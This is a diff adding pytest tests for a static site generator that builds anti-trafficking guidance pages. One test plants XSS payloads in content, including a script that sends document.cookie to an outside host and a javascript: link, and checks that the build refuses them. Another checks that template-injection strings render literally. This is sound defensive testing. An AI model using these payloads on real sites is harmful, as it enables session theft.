@@ -1,0 +1,119 @@
+"""`trmgen build`: a failed build leaves the previous site whole; content stays literal text."""
+
+from __future__ import annotations
+
+import hashlib
+import subprocess
+import sys
+from pathlib import Path
+
+from .html import page
+
+
+def trmgen(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "trmgen", *args, "--root", str(root)],
+                          capture_output=True, text=True, timeout=300, check=False)
+
+
+def snapshot(folder: Path) -> dict[str, str]:
+    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_build_writes_every_language_and_the_chooser(scratch_repo: Path) -> None:
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "built the site in site/" in result.stdout
+    assert (scratch_repo / "site/index.html").is_file()
+    assert page(scratch_repo / "site", "en/measures/first-screening/").xpath("//h1")
+    assert not list(scratch_repo.glob(".trmgen-build-*")), "the temporary folder is removed"
+
+
+def test_invalid_yaml_leaves_the_previous_site(scratch_repo: Path) -> None:
+    assert trmgen(scratch_repo, "build").returncode == 0
+    before = snapshot(scratch_repo / "site")
+    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
+    sop.write_text(sop.read_text().replace("who: [police]", "who: [polise]"))
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 1
+    assert ("guidelines/sops/1-identification.yaml:11:11: error: measures[0].who[0]: unknown "
+            "actor 'polise'") in result.stdout
+    assert "site/ is unchanged" in result.stderr
+    assert "Traceback" not in result.stdout + result.stderr
+    assert snapshot(scratch_repo / "site") == before
+
+
+def test_broken_template_leaves_the_previous_site(scratch_repo: Path) -> None:
+    assert trmgen(scratch_repo, "build").returncode == 0
+    before = snapshot(scratch_repo / "site")
+    template = scratch_repo / "templates/pages/measure.md.j2"
+    lines = template.read_text().splitlines()
+    lines[5] += " {{ measure.no_such_field }}"
+    template.write_text("\n".join(lines) + "\n")
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 1
+    assert "templates/pages/measure.md.j2:6:1: error:" in result.stdout
+    assert "no_such_field" in result.stdout
+    assert "Traceback" not in result.stdout + result.stderr
+    assert snapshot(scratch_repo / "site") == before
+
+
+def test_template_syntax_error_is_located(scratch_repo: Path) -> None:
+    template = scratch_repo / "templates/pages/sop.md.j2"
+    template.write_text(template.read_text() + "{% if %}\n")
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 1
+    assert "templates/pages/sop.md.j2:" in result.stdout
+    assert not (scratch_repo / "site").exists()
+
+
+def test_strict_build_refuses_sample_data(scratch_repo: Path) -> None:
+    result = trmgen(scratch_repo, "build", "--strict")
+    assert result.returncode == 1
+    assert "contacts/BG.yaml:3:1: error: sample_data" in result.stdout
+    assert not (scratch_repo / "site").exists()
+
+
+def test_adversarial_content_is_refused_before_any_page_is_built(scratch_repo: Path) -> None:
+    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
+    text = sop.read_text()
+    text = text.replace("what: Look for signs of trafficking.",
+                        "what: 'Look <img src=x onerror=alert(1)> here'")
+    text = text.replace("when: At the first contact.",
+                        "when: 'See [this](javascript:alert(document.cookie))'")
+    text = text.replace("- Talk to the person alone.",
+                        "- '<script>fetch(\"https://example.org/\"+document.cookie)</script>'")
+    sop.write_text(text)
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 1
+    codes = [line.rsplit("[", 1)[1] for line in result.stdout.splitlines()
+             if " error: " in line]
+    assert sorted(codes) == ["text.raw-html]", "text.raw-html]", "text.unsafe-link]"]
+    assert not (scratch_repo / "site").exists()
+
+
+def test_template_syntax_in_content_is_shown_literally(scratch_repo: Path) -> None:
+    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
+    sop.write_text(sop.read_text().replace(
+        "what: Look for signs of trafficking.",
+        "what: \"Look for {{ 7*7 }} and {% include 'x' %} and {{ config }}.\""))
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 0, result.stdout + result.stderr
+    tree = page(scratch_repo / "site", "en/measures/first-screening/")
+    what = tree.xpath("string(//h2[@id='what']/following-sibling::p[1])")
+    assert what == "Look for {{ 7*7 }} and {% include 'x' %} and {{ config }}."
+
+
+def test_stale_contact_shows_a_badge(scratch_repo: Path) -> None:
+    contacts = scratch_repo / "contacts/BG.yaml"
+    contacts.write_text(contacts.read_text().replace("last_verified: 2026-10-01",
+                                                     "last_verified: 2020-01-01", 1))
+    result = trmgen(scratch_repo, "build")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "[contact.stale]" in result.stdout
+    tree = page(scratch_repo / "site", "en/contacts/bg/")
+    badges = tree.xpath("//h3[@id='bg-police']/following-sibling::div[1]"
+                        "//span[contains(@class, 'trm-badge-stale')]/text()")
+    assert badges == ["Due for verification"]
+    assert not tree.xpath("//h3[@id='bg-ngo']/following-sibling::div[1]"
+                          "//span[contains(@class, 'trm-badge-stale')]")
